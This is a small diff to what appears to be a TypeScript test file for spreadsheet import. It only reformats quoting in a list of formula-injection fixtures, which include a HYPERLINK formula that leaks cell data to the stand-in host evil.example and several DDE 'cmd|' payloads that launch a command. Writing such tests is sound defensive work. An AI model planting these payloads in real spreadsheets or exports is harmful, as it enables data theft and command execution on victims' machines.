@@ -16,10 +16,10 @@ import { regionTable, tempDir, testRegion } from './importFixture.ts';
 /** Cells that Excel or WPS would evaluate, as community names and comments might carry them. */
 const formulas = [
   '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   "'=1+1", // already an apostrophe: must come back as written
